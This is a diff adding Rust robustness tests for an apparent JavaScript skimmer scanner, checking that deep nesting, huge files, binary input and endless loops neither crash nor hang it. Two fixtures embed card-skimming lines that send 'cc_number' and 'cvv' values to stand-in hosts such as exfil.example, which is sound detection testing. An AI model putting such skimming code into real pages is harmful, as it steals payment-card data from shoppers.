@@ -1,0 +1,160 @@
+//! The failure modes of issue 3, item 1: hostile nesting, huge one-line files, broken and
+//! binary input, and decoded code that loops forever must neither crash, hang nor go
+//! quadratic; exceeding a budget is an obfuscation finding plus an `errors` entry.
+
+use skimscan::inventory::ScriptKind;
+use skimscan::js::{AnalysisJob, Engine, HostPolicy};
+use skimscan::rules::RuleSet;
+use std::sync::Arc;
+use std::time::{Duration, Instant};
+
+fn engine() -> Engine {
+    Engine::new(
+        Arc::new(RuleSet::load(false, &[]).expect("shipped rules")),
+        HostPolicy::default(),
+    )
+}
+
+fn job(code: String) -> AnalysisJob {
+    AnalysisJob {
+        script_id: "t.js".into(),
+        kind: ScriptKind::External,
+        code: code.into(),
+        page_url: "t.js".into(),
+        page_host: None,
+        payment_page: true,
+        line_offset: 1,
+        column_offset: 1,
+    }
+}
+
+#[test]
+fn ten_thousand_deep_nesting_is_a_budget_finding_not_a_crash() {
+    let e = engine();
+    for deep in [
+        format!("var x = {}1{};", "(".repeat(10_000), ")".repeat(10_000)),
+        format!("f{}", "(".repeat(10_000)),
+        format!("var a = {}0{};", "[".repeat(10_000), "]".repeat(10_000)),
+        format!("var s = 1{};", "+1".repeat(200_000)),
+    ] {
+        let t = Instant::now();
+        let r = e.analyse_batch(vec![job(deep)]).pop().unwrap();
+        assert!(
+            t.elapsed() < Duration::from_secs(10),
+            "took {:?}",
+            t.elapsed()
+        );
+        assert!(
+            r.findings
+                .iter()
+                .any(|f| f.rule == "analysis-budget-exceeded"),
+            "{:?}",
+            r.findings
+        );
+        assert_eq!(r.errors.len(), 1, "{:?}", r.errors);
+    }
+}
+
+#[test]
+fn deep_nesting_does_not_hide_the_rest_of_the_script() {
+    let code = format!(
+        "var x = {}1{};\nvar n = document.getElementById('cc_number').value;\nfetch('https://exfil.example/c', {{method:'POST', body:n}});\n",
+        "(".repeat(5_000),
+        ")".repeat(5_000)
+    );
+    let r = engine().analyse_batch(vec![job(code)]).pop().unwrap();
+    assert!(
+        r.findings
+            .iter()
+            .any(|f| f.rule == "payment-data-exfiltration"),
+        "{:?}",
+        r.findings
+    );
+    assert!(
+        r.findings
+            .iter()
+            .any(|f| f.rule == "analysis-budget-exceeded")
+    );
+}
+
+#[test]
+fn a_twenty_megabyte_line_is_analysed_in_linear_time() {
+    let unit = "a.push('xyzzy',1,2,3);";
+    let code: String = unit.repeat(19 * 1024 * 1024 / unit.len());
+    let t = Instant::now();
+    let r = engine().analyse_batch(vec![job(code)]).pop().unwrap();
+    assert!(
+        t.elapsed() < Duration::from_secs(30),
+        "took {:?}",
+        t.elapsed()
+    );
+    assert!(r.errors.is_empty(), "{:?}", r.errors);
+}
+
+#[test]
+fn more_than_twenty_megabytes_is_capped_with_an_error() {
+    let code = "var a = 1;\n".repeat(2 * 1024 * 1024);
+    let r = engine().analyse_batch(vec![job(code)]).pop().unwrap();
+    assert!(
+        r.findings
+            .iter()
+            .any(|f| f.rule == "analysis-budget-exceeded")
+    );
+    assert!(
+        r.errors.iter().any(|e| e.contains("20 MB")),
+        "{:?}",
+        r.errors
+    );
+}
+
+#[test]
+fn broken_binary_and_empty_input_never_end_the_scan() {
+    let e = engine();
+    let inputs = vec![
+        String::new(),
+        "}}}}{{{{ ))) (((".to_string(),
+        String::from_utf8_lossy(&(0u8..=255).cycle().take(100_000).collect::<Vec<u8>>())
+            .into_owned(),
+        "var s = '\\u{zz}; function (".to_string(),
+    ];
+    let results = e.analyse_batch(inputs.into_iter().map(job).collect());
+    assert_eq!(results.len(), 4);
+    assert!(results[0].findings.is_empty() && results[0].errors.is_empty());
+}
+
+#[test]
+fn decoded_code_that_loops_forever_is_bounded_by_fuel() {
+    // The evaluator runs decoders; one that never terminates must run out of fuel.
+    let code = "var s = ''; while (true) { s += 'a'; }\nvar t = ''; for (;;) { t = t + t + 'x'; }\neval(atob('d2hpbGUodHJ1ZSl7fQ=='));".to_string();
+    let t = Instant::now();
+    let r = engine().analyse_batch(vec![job(code)]).pop().unwrap();
+    assert!(
+        t.elapsed() < Duration::from_secs(10),
+        "took {:?}",
+        t.elapsed()
+    );
+    assert!(r.errors.is_empty(), "{:?}", r.errors);
+}
+
+#[test]
+fn results_keep_the_order_of_the_jobs() {
+    let e = engine();
+    let jobs: Vec<AnalysisJob> = (0..12)
+        .map(|i| {
+            let mut j = job(if i % 2 == 0 {
+                "var x = 1;".into()
+            } else {
+                "new Image().src='https://e.example/?'+document.getElementById('cvv').value;".into()
+            });
+            j.script_id = format!("s{i}");
+            j
+        })
+        .collect();
+    let r = e.analyse_batch(jobs);
+    for (i, a) in r.iter().enumerate() {
+        assert_eq!(a.findings.is_empty(), i % 2 == 0, "job {i}");
+        if let Some(f) = a.findings.first() {
+            assert_eq!(f.script.as_deref(), Some(format!("s{i}").as_str()));
+        }
+    }
+}
